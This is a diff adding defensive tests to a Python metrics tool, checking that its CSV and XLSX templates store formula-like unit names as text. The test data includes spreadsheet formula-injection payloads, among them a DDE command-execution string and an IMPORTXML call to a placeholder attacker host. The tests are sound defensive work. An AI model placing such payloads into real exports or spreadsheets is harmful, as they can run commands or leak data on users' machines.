@@ -168,3 +168,70 @@ def test_csv_has_a_bom_and_round_trips_chinese():
     assert list(read.columns) == ["单位名称", "死亡人数"]
     assert read["单位名称"].tolist() == ["一号煤矿", "化工公司"]
     assert read["死亡人数"].tolist() == [0, 1]
+
+
+# Units as an attacker might name them; the template lists every unit's code and name.
+HOSTILE_UNITS = [("F1", "=cmd|'/c calc'!A1", "Formula", "coal"), ("F2", "+1+1", "Plus", "chemical"),
+                 ("F3", '@IMPORTXML("http://evil.example","//a")', "At", "logistics"), ("-F4", "负号煤矿", "Minus", "coal")]
+HOSTILE_CELLS = [["F1", "'=cmd|'/c calc'!A1"], ["F2", "'+1+1"], ["F3", '\'@IMPORTXML("http://evil.example","//a")'],
+                 ["'-F4", "负号煤矿"]]
+FORMULA_STARTS = tuple("=+-@\t\r")
+
+
+def hostile_template(fmt: str) -> tuple[bytes, object]:
+    from metrics import template
+    from metrics.catalog import load_catalog
+    from tests.builders import memory_store
+
+    con = memory_store(HOSTILE_UNITS)
+    units = pd.DataFrame(HOSTILE_UNITS, columns=["code", "name_zh", "name_en", "sector"]).sort_values("code")
+    return template.template_file(load_catalog(), units, date(2026, 10, 1), fmt), con
+
+
+def import_back(con, data: bytes, name: str):
+    from metrics import upload
+
+    return upload.import_file(con, data, name, actor="test", dry_run=True, today=date(2026, 11, 23))
+
+
+def test_the_csv_template_writes_formula_like_unit_names_as_text_and_reads_them_back():
+    import csv
+
+    data, con = hostile_template("csv")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert sorted(row[1:3] for row in rows[1:]) == sorted(HOSTILE_CELLS)
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    injuries = rows[0].index("负伤人数（轻伤及以上）")
+    for row in rows[1:]:
+        row[injuries] = "1"
+    filled = io.StringIO()
+    csv.writer(filled, lineterminator="\n").writerows(rows)
+    result = import_back(con, filled.getvalue().encode("utf-8-sig"), "template.csv")
+    assert result.errors == [] and result.status == "committed"
+    assert sorted(result.observations["subsidiary"]) == ["-F4", "F1", "F2", "F3"]
+
+
+def test_the_xlsx_template_has_no_formula_cell_and_reads_back():
+    data, con = hostile_template("xlsx")
+    sheet = sheet_of(data)
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert sorted([r[1].value, r[2].value] for r in sheet.iter_rows(min_row=2)) == sorted(HOSTILE_CELLS)
+    assert all(r[1].data_type == "s" and r[2].data_type == "s" for r in sheet.iter_rows(min_row=2))
+    headers = [c.value for c in sheet[1]]
+    for row in sheet.iter_rows(min_row=2):
+        row[headers.index("负伤人数（轻伤及以上）")].value = 1
+    out = io.BytesIO()
+    sheet.parent.save(out)
+    result = import_back(con, out.getvalue(), "template.xlsx")
+    assert result.errors == [] and result.status == "committed"
+    assert sorted(result.observations["subsidiary"]) == ["-F4", "F1", "F2", "F3"]
+
+
+def test_a_template_whose_apostrophes_excel_dropped_still_reads_back():
+    """Saved again from a spreadsheet, a name may come back as it is stored (`=cmd…`, not `'=cmd…`)."""
+    _, con = hostile_template("csv")
+    text = "月份,单位编码,单位名称,负伤人数（轻伤及以上）\n2026-10,F1,=cmd|'/c calc'!A1,1\n2026-10,-F4,负号煤矿,2\n"
+    result = import_back(con, text.encode("utf-8"), "resaved.csv")
+    assert result.errors == []
+    assert result.observations[["subsidiary", "value"]].values.tolist() == [["F1", 1.0], ["-F4", 2.0]]
